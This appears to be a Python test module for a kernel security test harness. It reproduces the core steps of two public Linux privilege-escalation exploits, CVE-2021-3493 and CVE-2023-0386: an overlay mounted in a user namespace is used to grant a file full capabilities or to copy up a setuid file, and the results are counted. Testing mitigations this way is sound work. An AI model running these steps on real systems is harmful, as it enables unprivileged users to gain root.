"""How public exploits use bugs in what the kernel asks for rights: Python code that processes of tests run.

Each prints how often it got what it wanted, and with which errors it did not.
"""

from .acts import AS_NOBODY, NOBODY

_MOUNTING = (
    "mkdir l u w m && mount -t overlay -o lowerdir=l,upperdir=u,workdir=w,userxattr none m; s=$?; rm -rf l u w; exit $s"
)
OVERLAY_OF_ONES_OWN = (*AS_NOBODY, "unshare", "--user", "--map-root-user", "--mount", "sh", "-c", _MOUNTING)
"""Tries whether users may mount one, in a folder of theirs."""
_IN_OWN_NAMESPACES = f"""
import collections, ctypes, errno, json, os, struct, sys
rounds, folder, bug = int(sys.argv[1]), sys.argv[2], sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
device = os.open("/dev/krie_test", os.O_WRONLY)
if bug:
    os.write(device, f"bug {{bug}}".encode())
os.setgroups([])
os.setresgid({NOBODY}, {NOBODY}, {NOBODY})
os.setresuid({NOBODY}, {NOBODY}, {NOBODY})
libc.prctl(4, 1, 0, 0, 0)                                   # PR_SET_DUMPABLE: its own files in /proc
assert not libc.unshare(0x10020000), ctypes.get_errno()     # CLONE_NEWUSER | CLONE_NEWNS
for name, text in (("setgroups", "deny"), ("uid_map", "0 {NOBODY} 1"), ("gid_map", "0 {NOBODY} 1")):
    with open(f"/proc/self/{{name}}", "w") as file:
        file.write(text)

def overlay(lower):
    for name in ("upper", "work", "merged"):
        os.mkdir(f"{{folder}}/{{name}}")
    places = f"lowerdir={{lower}},upperdir={{folder}}/upper,workdir={{folder}}/work,userxattr"
    if libc.mount(b"overlay", f"{{folder}}/merged".encode(), b"overlay", 0, places.encode()):
        sys.exit(f"an overlay cannot be mounted: {{os.strerror(ctypes.get_errno())}}")

answers = collections.Counter()
def tried(what):
    try:
        what()
        answers["done"] += 1
    except OSError as error:
        answers[errno.errorcode[error.errno]] += 1
"""

CAPABILITY_BY_OVERLAY = f"""
{_IN_OWN_NAMESPACES}
os.mkdir(f"{{folder}}/lower")
overlay(f"{{folder}}/lower")
for round in range(rounds):
    path = f"{{folder}}/merged/{{round}}"
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o755))
    every = struct.pack("<5I", 0x02000001, 0xffffffff, 0, 0xffffffff, 0)
    tried(lambda: os.setxattr(path, "security.capability", every))
print(json.dumps(answers))
"""
"""CVE-2021-3493: a file of one's own gets all capabilities, by an overlay in a user namespace."""

SETUID_BY_COPY_UP = f"""
{_IN_OWN_NAMESPACES}
overlay(sys.argv[4])
for round in range(rounds):
    tried(lambda: os.utime(f"{{folder}}/merged/{{round}}"))
print(json.dumps(answers))
"""
"""CVE-2023-0386: a set-uid file that one's own server says is root's is copied from FUSE to a real file system."""
